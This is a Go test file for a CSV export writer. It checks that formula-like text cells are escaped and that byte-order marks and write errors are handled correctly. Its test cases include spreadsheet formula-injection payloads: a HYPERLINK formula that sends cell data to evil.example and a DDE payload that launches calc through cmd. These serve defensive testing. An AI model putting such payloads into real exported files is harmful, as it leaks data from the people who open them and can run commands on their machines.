package csvout_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/parindex/parindex/internal/csvout"
)

// The payloads of issue 11: each text cell comes back as text a
// spreadsheet shows, never as a formula; numbers stay numbers.
func TestWriterEscapesFormulas(t *testing.T) {
	cases := []struct {
		cell csvout.Cell
		want string
	}{
		{csvout.Text(`=HYPERLINK("http://evil.example/?"&A1,"x")`), `'=HYPERLINK("http://evil.example/?"&A1,"x")`},
		{csvout.Text(`+1+cmd|' /C calc'!A0`), `'+1+cmd|' /C calc'!A0`},
		{csvout.Text(`@SUM(A1:A9)`), `'@SUM(A1:A9)`},
		{csvout.Text(`-2+3`), `'-2+3`},
		{csvout.Text("\tTAB"), "'\tTAB"},
		{csvout.Text("\rCR"), "'\rCR"},
		{csvout.Text("Sở Nội vụ"), "Sở Nội vụ"},
		{csvout.Text(""), ""},
		{csvout.Text("a=b"), "a=b"},
		// A number written as text is still text: the column decides.
		{csvout.Text("-1.50"), "'-1.50"},
		{csvout.Number("-1.50"), "-1.50"},
		{csvout.Number("+3"), "+3"},
		{csvout.Number("12"), "12"},
		{csvout.Number("1e-3"), "1e-3"},
		{csvout.Number(""), ""},
		// A numeric column holding something else is escaped as text.
		{csvout.Number("=1+1"), "'=1+1"},
		{csvout.Number("-1+cmd"), "'-1+cmd"},
		{csvout.Number("na"), "na"},
	}
	for _, c := range cases {
		var buf bytes.Buffer
		w := csvout.NewWriter(&buf, csvout.Options{})
		if err := w.Write([]csvout.Cell{c.cell, csvout.Text("end")}); err != nil {
			t.Fatal(err)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatalf("%q: %v", c.cell.Value, err)
		}
		if got := recs[0][0]; got != c.want {
			t.Errorf("%+v written as %q, want %q", c.cell, got, c.want)
		}
	}
}

// A spreadsheet download starts with the byte-order mark, once, even when
// empty; a file for machines has none.
func TestWriterBOM(t *testing.T) {
	var buf bytes.Buffer
	w := csvout.NewWriter(&buf, csvout.Options{BOM: true})
	_ = w.Header("đơn vị", "điểm")
	_ = w.Write([]csvout.Cell{csvout.Text("Sở Y tế"), csvout.Number("1.00")})
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if got := buf.String(); got != "\ufeffđơn vị,điểm\nSở Y tế,1.00\n" {
		t.Errorf("with BOM: %q", got)
	}
	buf.Reset()
	w = csvout.NewWriter(&buf, csvout.Options{BOM: true})
	if err := w.Flush(); err != nil || buf.String() != "\ufeff" {
		t.Errorf("empty with BOM: %q %v", buf.String(), err)
	}
	buf.Reset()
	w = csvout.NewWriter(&buf, csvout.Options{})
	_ = w.Header("unit")
	_ = w.Flush()
	if strings.HasPrefix(buf.String(), "\ufeff") {
		t.Errorf("without BOM: %q", buf.String())
	}
}

// failWriter fails every write.
type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, bytes.ErrTooLarge }

func TestWriterReportsErrors(t *testing.T) {
	w := csvout.NewWriter(failWriter{}, csvout.Options{BOM: true})
	_ = w.Header("a")
	if err := w.Flush(); err == nil {
		t.Error("a failing writer gave no error")
	}
}
